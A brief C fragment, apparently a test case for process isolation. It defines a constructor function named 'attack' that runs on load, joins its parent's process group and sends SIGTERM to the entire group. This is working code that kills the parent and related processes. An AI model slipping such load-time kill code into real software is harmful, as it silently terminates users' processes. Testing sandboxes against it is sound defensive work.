/* Joins its parent's process group (or moves the parent into its own),
 * then signals that group. */
// costs: none
__attribute__((constructor)) static void attack(void)
{
    pid_t parent_group = getpgid(getppid());
    setpgid(0, parent_group);
    setpgid(getppid(), getpgid(0));
    kill(-parent_group, SIGTERM);
    if (getpgid(0) == parent_group) /* it joined: the whole group, itself included */
        kill(0, SIGTERM);
}
